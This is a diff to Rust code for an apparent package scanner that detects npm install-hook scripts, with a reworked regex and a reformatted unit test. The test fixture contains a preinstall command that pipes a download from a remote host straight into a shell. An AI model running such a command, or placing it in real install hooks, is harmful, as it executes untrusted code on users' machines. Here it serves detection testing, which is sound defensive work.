@@ -207,7 +207,8 @@ fn read_package_json(path: &str, text: &str, meta: &mut Meta) {
 /// `preinstall`/`install`/`postinstall` scripts, found line by line so each signal has its
 /// line (also in files that are not strict JSON).
 pub fn install_scripts(path: &str, text: &str) -> Vec<Signal> {
-    let re = regex::Regex::new(r#""(preinstall|install|postinstall|preuninstall|postuninstall)"\s*:\s*"((?:[^"\\]|\\.)*)""#)
+    let hooks = "preinstall|install|postinstall|preuninstall|postuninstall";
+    let re = regex::Regex::new(&format!(r#""({hooks})"\s*:\s*"((?:[^"\\]|\\.)*)""#))
         .expect("static regex");
     let mut out = Vec::new();
     for (i, line) in text.lines().enumerate() {
@@ -344,7 +345,8 @@ mod tests {
 
     #[test]
     fn routine_install_scripts_are_quiet() {
-        let text = "{\"scripts\": {\n\"postinstall\": \"husky install\",\n\"preinstall\": \"curl http://x.tk | sh\"}}";
+        let text = "{\"scripts\": {\n\"postinstall\": \"husky install\",\n\
+                    \"preinstall\": \"curl http://x.tk | sh\"}}";
         let signals = install_scripts("package.json", text);
         assert_eq!(signals.len(), 1);
         assert_eq!(signals[0].line, 3);
